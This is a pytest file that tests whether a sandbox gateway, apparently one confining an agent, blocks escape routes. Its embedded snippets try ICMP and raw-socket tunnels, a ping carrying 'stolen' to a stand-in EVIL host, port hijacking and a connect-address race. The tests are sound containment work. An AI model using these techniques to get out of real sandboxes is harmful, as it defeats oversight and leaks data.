"""Attacks A12 and B24 of the research on the way out: below TCP and UDP, and at the gateway's own listeners."""

from __future__ import annotations

import asyncio
import socket

import pytest

from corral.actions import Kind
from tests.contain.attacks import users
from tests.contain.conftest import MakeBox
from tests.contain.gateway_attacks import (
    EVIL,
    EVIL6,
    NOTHING_ALLOWS,
    WEB,
    attack,
    nothing_arrived,
    refused,
    tool,
)
from tests.contain.gateway_boxes import PYTHON, policy_of, refusals, shell
from tests.internet.world import Internet

WEB_PLACES = ("203.0.113.80", "2001:db8:2::80")

# ---- A12: below TCP and UDP ----

BELOW = r"""
answers = {}
def one(what, make):
    try:
        answers[what] = make()
    except OSError as error:
        answers[what] = failure(error)
echo = b"\x08\0\xf7\xff\0\0\0\0stolen"
def send(family, kind, protocol, data, to):
    with socket.socket(family, kind, protocol) as s:
        s.sendto(data, to)
        return "DONE"
def stream(kind, protocol):
    with socket.socket(socket.AF_INET, kind, protocol) as s:
        s.settimeout(2); s.connect((ARGS[0], 443)); s.send(b"stolen")
        return "DONE"
to, to6 = (ARGS[0], 0), (ARGS[1], 0)
one("ping", lambda: send(2, socket.SOCK_DGRAM, 1, echo, to))
one("ping6", lambda: send(10, socket.SOCK_DGRAM, 58, b"\x80" + echo[1:], to6))
for protocol in (1, 2, 4, 6, 17, 41, 47, 50, 58, 132, 253, 255):
    one("raw %d" % protocol, lambda: send(2, socket.SOCK_RAW, protocol, echo, to))
    one("raw6 %d" % protocol, lambda: send(10, socket.SOCK_RAW, protocol, echo, to6))
one("packet", lambda: send(17, socket.SOCK_RAW, 0x300, bytes(14) + echo, ("lo", 0x800)))
one("packet dgram", lambda: send(17, socket.SOCK_DGRAM, 0x300, echo, ("lo", 0x800)))
for what, kind, protocol in (("sctp", 1, 132), ("sctp packets", 5, 132), ("dccp", 6, 33)):
    one(what, lambda: stream(kind, protocol))
for family in (1, 3, 4, 5, 9, 15, 16, 20, 21, 24, 29, 30, 31, 33, 38, 39, 40, 41, 43, 44):
    if family not in (1, 16):
        one("family %d" % family, lambda: socket.socket(family, socket.SOCK_DGRAM).close() or "OPENED")
tell(answers)
"""


@pytest.mark.parametrize("user", ["agent", "root"])
async def test_icmp_and_raw_sockets(make_box: MakeBox, internet: Internet, user: str) -> None:
    """A12: an ICMP tunnel needs one of these; SCTP, DCCP and the kernel's odd families go with them."""
    box = await make_box(policy=policy_of("allow: ['0.0.0.0/0', '::/0', web.test]"))
    if user not in users(box):
        pytest.skip("this sandbox has no root")
    internet.clear()
    heard = await attack(box, BELOW, EVIL, EVIL6, user=user)
    assert {"DONE", "OPENED"}.isdisjoint(heard.values()), heard
    nothing_arrived(internet)
    assert any(kind.value in ("net.socket", "kernel") for kind in {d.action.kind for d in refusals(box, *Kind)})


@pytest.mark.parametrize("user", ["agent", "root"])
async def test_ping_and_traceroute(make_box: MakeBox, internet: Internet, user: str) -> None:
    tool("ping")
    box = await make_box(policy=policy_of("allow: ['0.0.0.0/0', '::/0', web.test]"))
    if user not in users(box):
        pytest.skip("this sandbox has no root")
    internet.clear()
    for command in (f"ping -c 2 -W 1 -p 73746f6c656e {EVIL}", f"ping -6 -c 1 -W 1 {EVIL6}", "ping -c 1 -W 1 web.test"):
        result = await box.exec(["sh", "-c", command], user=user, timeout=15)
        assert result.exit_code != 0, result
    nothing_arrived(internet)


# ---- B24: the listeners ----


async def test_the_gateway_s_own_listeners_lead_nowhere(make_box: MakeBox, internet: Internet) -> None:
    """B24: dialled by their own addresses there is no destination, whatever is said."""
    box = await make_box(policy=policy_of("allow: [web.test:80, '127.0.0.0/8', '::1', '0.0.0.0/0', '::/0']"))
    internet.clear()
    code = r"""
request = b"GET / HTTP/1.1\r\nHost: web.test\r\n\r\n"
answers = [say(host, 1023, request) for host in ("127.0.0.1", "::1", "127.1.2.3", "::ffff:127.0.0.1", "0.0.0.0", "::")]
answers.append(say("127.0.0.1", 1023, b"CONNECT web.test:80 HTTP/1.1\r\nHost: web.test:80\r\n\r\n" + request))
answers.append(say("127.0.0.1", 1023, b"\x05\x01\x00"))
for source in ("203.0.113.80", "203.0.113.66"):  # every address is local, so a client may have any
    try:
        with socket.create_connection(("127.0.0.1", 1023), timeout=5, source_address=(source, 8080)) as s:
            s.sendall(request)
            answers.append(heard(s, 3))
    except OSError as error:
        answers.append(failure(error))
tell(answers)
"""
    heard = await attack(box, code)
    for answer in heard:
        assert answer in ("ECONNRESET", "EPIPE", "EOF", "connect ECONNRESET", "connect ECONNREFUSED"), heard
    nothing_arrived(internet)


@pytest.mark.parametrize("user", ["agent", "root"])
async def test_the_gateway_s_ports_cannot_be_taken(make_box: MakeBox, internet: Internet, user: str) -> None:
    """B24: who had the port would be the gateway of all the others."""
    box = await make_box(policy=policy_of(WEB))
    if user not in users(box):
        pytest.skip("this sandbox has no root")
    internet.clear()
    code = r"""
answers = []
for family, hosts in ((2, ("127.0.0.1", "0.0.0.0", "198.18.0.53")), (10, ("::1", "::", "fd63:6f72:7261:6c00::53"))):
    for host in hosts:
        for kind, port in ((1, 1023), (1, 53), (2, 53)):
            with socket.socket(family, kind) as s:
                s.setsockopt(1, 2, 1); s.setsockopt(1, 15, 1)  # SO_REUSEADDR, SO_REUSEPORT
                try:
                    s.bind((host, port))
                    if kind == 1: s.listen()
                    answers.append("TAKEN")
                except OSError as error:
                    answers.append(failure(error))
tell(answers)
"""
    heard = await attack(box, code, user=user)
    assert set(heard) <= {"EACCES", "EPERM", "EADDRINUSE", "EADDRNOTAVAIL"}, heard
    assert (await shell(box, "curl -sS -m 8 http://web.test/")).text == "hello from web.test\n"


def _told(loop: asyncio.AbstractEventLoop, event: asyncio.Event) -> None:
    loop.call_soon_threadsafe(event.set)


async def test_a_listener_inside_is_not_one_of_the_host(make_box: MakeBox, internet: Internet) -> None:
    """B24: what listens inside is reached from inside only; socat forwards to nowhere."""
    box = await make_box(policy=policy_of(WEB))
    other = await make_box(policy=policy_of(WEB))
    internet.clear()
    port = 18743
    code = f"""
import socket, time
s = socket.socket(); s.bind(("0.0.0.0", {port})); s.listen(); print("up", flush=True)
s.settimeout(2.5)
try:
    s.accept(); print("somebody came")
except OSError:
    print("nobody came")
"""
    up = asyncio.Event()
    loop = asyncio.get_running_loop()
    running = asyncio.create_task(box.exec([PYTHON, "-c", code], timeout=30, on_stdout=lambda _: _told(loop, up)))
    await asyncio.wait_for(up.wait(), 15)
    for host in ("127.0.0.1", internet.host):
        with socket.socket() as s:
            s.settimeout(0.5)
            assert s.connect_ex((host, port)) != 0
    said = await attack(other, "tell([say(h, ARGS[0], b'x') for h in ('127.0.0.1', '203.0.113.80')])", port)
    assert said[0] == "connect ECONNREFUSED" and said[1] == "connect EACCES", said
    assert "nobody came" in (await running).text
    nothing_arrived(internet)


async def test_an_allowed_address_is_not_changed_on_the_way(make_box: MakeBox, internet: Internet) -> None:
    """The destination that the supervisor saw is the one that is dialled, whatever other threads write meanwhile."""
    box = await make_box(policy=policy_of("allow: [{ip: 203.0.113.80, port: 80}]"))
    internet.clear()
    code = r"""
libc = ctypes.CDLL(None, use_errno=True)
good = struct.pack("=H", 2) + struct.pack("!H4s8x", 80, socket.inet_aton("203.0.113.80"))
evil = struct.pack("=H", 2) + struct.pack("!H4s8x", 80, socket.inet_aton(ARGS[0]))
where = ctypes.create_string_buffer(good)
over = False
def race():
    while not over:
        ctypes.memmove(where, evil, 16); ctypes.memmove(where, good, 16)
thread = threading.Thread(target=race); thread.start()
count = tried = 0
while tried < 40 or (not 0 < count < tried and tried < 4000):
    tried += 1
    s = socket.socket()
    if libc.connect(s.fileno(), where, 16) == 0:
        count += 1
        s.sendall(b"GET / HTTP/1.1\r\nHost: 203.0.113.80\r\n\r\n"); heard(s, 0.2)
    s.close()
over = True; thread.join()
tell([count, tried])
"""
    count, tried = await attack(box, code, EVIL)
    found = nothing_arrived(internet, addresses=["203.0.113.80"])
    assert 0 < len(found) <= count < tried
    refused(box, Kind.NET_CONNECT, f"{EVIL}:80", NOTHING_ALLOWS)
